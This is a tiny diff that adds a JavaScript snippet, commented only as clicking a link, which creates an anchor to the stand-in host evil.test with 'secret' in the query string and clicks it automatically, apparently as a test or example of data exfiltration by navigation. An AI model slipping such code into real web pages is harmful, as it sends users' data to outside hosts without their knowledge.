@@ -1,0 +1,6 @@
+// Clicks a link.
+
+const a = document.createElement('a');
+a.href = 'http://evil.test/?secret';
+document.body.append(a);
+a.click();
